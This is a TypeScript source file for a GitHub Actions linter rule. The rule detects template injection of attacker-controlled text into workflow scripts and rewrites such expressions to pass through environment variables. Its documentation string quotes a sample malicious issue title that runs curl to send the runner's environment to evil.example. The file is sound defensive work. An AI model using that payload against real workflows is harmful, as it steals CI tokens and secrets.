import { defineFileRule } from '../../engine/file-rule';
import { safeFix, type Fix, type TextEdit } from '../../engine/fixer';
import { addToMapping, fillEmptyPair, yamlScalar } from '../../workflows/edits';
import { GITHUB_SCRIPT, isAttackerControlled } from '../../workflows/knowledge';
import { expressionsIn, type Expression, isCompositeAction, type Job, type Step, type Workflow, readableWorkflow } from '../../workflows/workflow';
import { asScalar, get, scalarLines, type YamlScalar } from '../../workflows/yaml';

export default defineFileRule({
  meta: {
    id: 'PWA003',
    name: 'template-injection',
    title: 'Attacker-controlled expression expanded in a script',
    category: 'ci',
    severity: 'high',
    confidence: 'high',
    cwe: 94,
    fixable: true,
    fixApplicability: ['safe'],
    docs: {
      what: 'Finds `${{ … }}` expressions that expand text an outsider controls (issue and pull request titles and bodies, comment bodies, branch names, commit messages) inside code: a `run:` script (any shell, `pwsh` included), the `script:` of `actions/github-script` or `jannekem/run-python-script-action`, the `cmd:` of `mikefarah/yq`. Also through an `env:` indirection: `${{ env.TITLE }}` in such code, where the step\'s, job\'s or workflow\'s `env:` sets `TITLE` from outsider text, expands that text just the same (reading `$TITLE` from the environment does not). In a composite action (`action.yml` with `runs.using: composite`), `${{ inputs.NAME }}` in such code is reported too, directly or through `env:`: the action cannot know what its callers pass, and a workflow that hands it an issue title or branch name makes it an injection. Those findings are medium severity and low confidence (the rule\'s own is high and high for outsider text), since most callers pass constants; the fix is the same and changes nothing for them. A workflow\'s own `inputs` (`workflow_dispatch`, `workflow_call`) are not reported.',
      why: 'GitHub substitutes the expression into the script\'s source before the shell (or Node) runs it, so the text is code, not data. An issue titled `"; curl -d "$(env)" https://evil.example #` runs that command on your runner, with the job\'s token and secrets. Passing the value through an environment variable keeps it data.',
      example: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue: ${{ github.event.issue.title }}"',
      safe: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue: ${ISSUE_TITLE}"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}',
      language: 'yaml',
      references: [
        'https://cwe.mitre.org/data/definitions/94.html',
        'https://cwe.mitre.org/data/definitions/78.html',
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
        'https://docs.zizmor.sh/audits/#template-injection',
      ],
    },
  },
  kinds: ['workflow', 'action'],

  check(context) {
    const workflow = readableWorkflow(context);
    if (!workflow) return;
    const text = context.text;
    // A composite action's inputs are whatever its callers pass, an issue title included.
    const isInput = isCompositeAction(workflow) ? (path: string) => /^inputs\.[\w-]+$/.test(path) : () => false;
    for (const job of workflow.jobs) {
      for (const step of job.steps) {
        const script = scriptOf(step);
        if (!script) continue;
        for (const expression of expressionsIn(script.scalar, text)) {
          const attacker = expression.contexts.find(isAttackerControlled) ?? taintedThroughEnv(expression, step, job, workflow, text, isAttackerControlled);
          const tainted = attacker ?? expression.contexts.find(isInput) ?? taintedThroughEnv(expression, step, job, workflow, text, isInput);
          if (!tainted) continue;
          const where = script.where;
          const throughEnv = tainted.startsWith('env.');
          const variable = throughEnv ? tainted.slice(4) : variableName(tainted);
          const use = USE[script.language](variable);
          const source = attacker ? 'text an outsider chooses' : "an input of this action (its caller may pass an issue title or branch name)";
          context.report(expression.start, expression.end, {
            message: throughEnv
              ? `\`${expression.text}\` pastes \`${variable}\`, which \`env:\` sets from ${source}, into ${where} before it runs: it becomes code run with this job's token and secrets. Read the variable instead: ${use}.`
              : attacker
                ? `\`${tainted}\` is text an outsider chooses, and \`${expression.text}\` pastes it into ${where} before it runs: a crafted title or branch name becomes commands run with this job's token and secrets. Pass it through the step's \`env:\` (\`${variable}: ${expression.text}\`) and use ${use} instead.`
                : `\`${expression.text}\` pastes this action's input into ${where}: a caller passing an issue title runs it as code. Set \`${variable}: ${expression.text}\` in \`env:\` and use ${use}.`,
            // Whether a caller passes untrusted text is not known here.
            ...(attacker ? {} : { severity: 'medium' as const, confidence: 'low' as const }),
            fix: () => (throughEnv ? [] : moveToEnv(text, workflow, step, script, expression, variable)),
          });
        }
      }
    }
  },
});

/** How each script language reads an environment variable, for the message. */
const USE: Record<Script['language'], (variable: string) => string> = {
  sh: (variable) => `"$${variable}"`,
  python: (variable) => `os.environ["${variable}"]`,
  pwsh: (variable) => `$env:${variable}`,
  cmd: (variable) => `%${variable}%`,
  js: (variable) => `process.env.${variable}`,
  other: () => 'the environment variable',
};

interface Script {
  scalar: YamlScalar;
  language: 'sh' | 'pwsh' | 'cmd' | 'js' | 'python' | 'other';
  /** For the message: "a `run:` script". */
  where: string;
}

/** Actions whose input is code they run: the input's name, its language. */
const CODE_INPUTS: Readonly<Record<string, { input: string; language: Script['language'] }>> = {
  [GITHUB_SCRIPT]: { input: 'script', language: 'js' },
  'jannekem/run-python-script-action': { input: 'script', language: 'python' },
  'mikefarah/yq': { input: 'cmd', language: 'sh' },
};

function scriptOf(step: Step): Script | undefined {
  if (step.run) {
    const shell = step.shell.split(/\s+/)[0].toLowerCase();
    const language = ['bash', 'sh', 'zsh'].includes(shell) ? 'sh' : shell === 'pwsh' || shell === 'powershell' ? 'pwsh' : shell === 'cmd' ? 'cmd' : shell === 'python' ? 'python' : 'other';
    return { scalar: step.run, language, where: 'a `run:` script' };
  }
  const sink = step.uses ? CODE_INPUTS[step.uses.repository] : undefined;
  const code = sink ? asScalar(get(step.with, sink.input)) : undefined;
  if (sink && code) return { scalar: code, language: sink.language, where: `the \`${sink.input}:\` code of \`${step.uses!.repository}\`` };
  return undefined;
}

/**
 * `${{ env.NAME }}` where the nearest `env:` that sets NAME (the step's, the job's, then the
 * workflow's) sets it from outsider text: the expression expands that text into the code.
 * Returns `env.NAME` for the message.
 */
function taintedThroughEnv(expression: Expression, step: Step, job: Job, workflow: Workflow, text: string, isTainted: (path: string) => boolean): string | undefined {
  for (const path of expression.contexts) {
    const name = /^env\.([\w-]+)$/.exec(path)?.[1];
    if (!name) continue;
    for (const env of [step.env, job.env, workflow.env]) {
      const pair = env?.pairs.find((p) => p.key.trim().toLowerCase() === name);
      const value = asScalar(pair?.value);
      if (!pair) continue;
      if (value && expressionsIn(value, text).some((e) => e.contexts.some(isTainted))) return `env.${pair.key.trim()}`;
      break;
    }
  }
  return undefined;
}

/** `github.event.pull_request.head.ref` → `PR_HEAD_REF`; `inputs.who` → `INPUT_WHO`. */
export function variableName(path: string): string {
  if (path.startsWith('inputs.')) return `INPUT_${path.slice(7).toUpperCase().replace(/[^A-Z0-9_]/g, '_')}`;
  const segments = path.replace(/^github\.event\./, '').replace(/^github\./, '').split('.').filter((s) => s !== '*');
  return segments.map((s) => (s === 'pull_request' ? 'pr' : s)).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
}

/** Moves the expression into the step's `env:` and reads the variable wherever the script expanded it. */
function moveToEnv(text: string, workflow: Workflow, step: Step, script: Script, expression: Expression, wanted: string): Fix[] {
  if (script.language === 'cmd' || script.language === 'other' || script.language === 'python') return [];
  const existing = step.env?.pairs.find((pair) => asScalar(pair.value)?.value.trim() === expression.text);
  let variable = existing?.key ?? wanted;
  for (let n = 2; !existing && step.env?.pairs.some((pair) => pair.key === variable); n++) variable = `${wanted}_${n}`;
  const edits: TextEdit[] = [];
  for (const occurrence of expressionsIn(script.scalar, text).filter((e) => e.text === expression.text)) {
    const replacement = referenceFor(text, script, occurrence, variable);
    if (replacement === undefined) return [];
    edits.push({ start: occurrence.start, end: occurrence.end, newText: replacement });
  }
  if (!existing) {
    const entry = `${variable}: ${yamlScalar(expression.text)}`;
    const edit = envEdit(text, workflow, step, entry);
    if (!edit) return [];
    edits.push(edit);
  }
  // The script sees the same value; only the shell no longer reads it as code.
  return [safeFix(`Pass \`${expression.text}\` through the environment variable ${variable}`, edits)];
}

function envEdit(text: string, workflow: Workflow, step: Step, entry: string): TextEdit | undefined {
  if (step.env) return addToMapping(text, step.env, [entry], workflow.eol);
  if (step.envPair) return step.envPair.value ? undefined : fillEmptyPair(text, step.envPair, [entry], workflow.indentUnit, workflow.eol);
  if (step.mapping.flow) return undefined;
  return addToMapping(text, step.mapping, ['env:', `${' '.repeat(workflow.indentUnit)}${entry}`], workflow.eol);
}

/** How the script reads the variable at this spot, quoted as the surrounding code needs. */
function referenceFor(text: string, script: Script, occurrence: Expression, variable: string): string | undefined {
  const line = scalarLines(script.scalar, text).find((l) => l.start <= occurrence.start && occurrence.start <= l.start + l.text.length + 1);
  const before = line ? text.slice(Math.max(line.start, script.scalar.start), occurrence.start) : '';
  const quote = openQuote(before, script.scalar.style === 'double');
  let reference: string;
  if (script.language === 'js') {
    const value = `process.env.${variable}`;
    reference = quote === '`' ? `\${${value}}` : quote ? `${quote} + ${value} + ${quote}` : value;
  } else if (script.language === 'pwsh') {
    // Inside a single-quoted PowerShell string nothing expands: no safe rewrite in place.
    if (quote === "'") return undefined;
    reference = quote === '"' ? `$($env:${variable})` : `$env:${variable}`;
  } else {
    reference = quote === '"' ? `\${${variable}}` : quote === "'" ? `'"\${${variable}}"'` : `"\${${variable}}"`;
  }
  return escapeFor(script.scalar, occurrence, reference);
}

/** The quote character the shell/JS code is inside at the end of `before`, if any. */
function openQuote(before: string, yamlDouble: boolean): string | undefined {
  const code = yamlDouble ? before.replace(/\\"/g, '"') : before;
  let open: string | undefined;
  for (let i = 0; i < code.length; i++) {
    const c = code[i];
    if (c === '\\' && open !== "'") {
      i++;
      continue;
    }
    if (open) {
      if (c === open) open = undefined;
    } else if (c === '"' || c === "'" || c === '`') open = c;
    else if (c === '#' && (i === 0 || /\s/.test(code[i - 1]))) break;
  }
  return open;
}

/** Writes the reference as the YAML scalar holding the script needs it written. */
function escapeFor(scalar: YamlScalar, occurrence: Expression, reference: string): string | undefined {
  switch (scalar.style) {
    case 'double':
      return reference.replace(/\\/g, '\\\\').replace(/"/g, '\\"');
    case 'single':
      return reference.replace(/'/g, "''");
    case 'plain':
      // A plain scalar cannot start with a quote; at its start, an unquoted reference is still data.
      if (occurrence.start === scalar.start && /^["']/.test(reference)) return reference.replace(/^"(.*)"$/, '$1').replace(/^'(.*)'$/, '$1');
      return / #|: /.test(reference) ? undefined : reference;
    default:
      return reference;
  }
}
